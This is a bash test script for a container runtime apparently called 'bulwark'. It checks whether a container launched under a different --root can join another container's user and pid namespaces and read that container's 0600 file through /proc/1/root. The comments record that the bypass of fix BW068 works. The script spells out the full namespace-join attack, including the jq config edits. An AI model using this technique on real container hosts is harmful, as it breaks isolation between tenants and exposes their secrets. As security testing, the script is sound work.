#!/bin/bash
# shellcheck disable=SC2016 # jq filters use their own $variables
# Attack: the BW068 fix finds the container that owns a joined namespace
# among the containers of bulwark's own --root only (src/runtime/
# ns_owner.c container_of_userns lists `root`). A victim run by another
# engine's bulwark (another --root: Docker's, containerd's, a second
# daemon's) is "a user namespace that is neither the host's nor a bulwark
# container's". The config joins the victim's user AND pid namespaces by
# path: BW068 is silent, BW043 accepts the joined maps (a live container's
# range), and the joiner is root among the victim's processes and reads
# its rootfs through /proc/1/root.
# Expected safe outcome: restricted refuses it (BW068 names the container,
#   whatever state root holds it, or any join of a namespace owned by a
#   non-host user namespace that is not the caller's pod is refused).
# Observed (2026-12-06): restricted run with a different --root exits 0 and
#   prints the victim's 0600 file.
set -u
source "$(dirname "$0")/lib.sh"
setup_bundle
B2=$(mktemp -d /tmp/bulwark-a4.XXXXXX); chmod 755 "$B2"
trap 'teardown_bundle; rm -rf "$B2"' EXIT
echo victim-secret >"$BUNDLE/rootfs/etc/victim-secret"; chmod 600 "$BUNDLE/rootfs/etc/victim-secret"
cp -a "$BUNDLE/rootfs" "$B2/rootfs"; rm -f "$B2/rootfs/etc/victim-secret"
config_edit '.process.args=["sleep","60"]'
"$BULWARK" --root "$BW_ROOT" --profile restricted create --bundle "$BUNDLE" victim$$ </dev/null >/dev/null 2>&1 || { echo "victim create failed"; exit 2; }
"$BULWARK" --root "$BW_ROOT" start victim$$
pid=$("$BULWARK" --root "$BW_ROOT" state victim$$ | jq .pid)
jq --arg p "$pid" '.process.args=["cat","/proc/1/root/etc/victim-secret"]
  | .linux.namespaces |= map(if .type=="pid" or .type=="user" then .path="/proc/\($p)/ns/\(.type)" else . end) | .linux.namespaces |= (map(select(.type != "user")) + [{"type":"user","path":"/proc/\($p)/ns/user"}]) | del(.linux.uidMappings, .linux.gidMappings)' \
  "$BUNDLE/config.json" >"$B2/config.json"
out=$("$BULWARK" --root "$B2/root" --profile restricted run --bundle "$B2" attacker$$ 2>&1)
echo "$out"
if grep -q victim-secret <<<"$out"; then
  verdict BROKEN "a container joined container victim's pid namespace under restricted and read its 0600 file"
else
  verdict SAFE "refused or not read"
fi
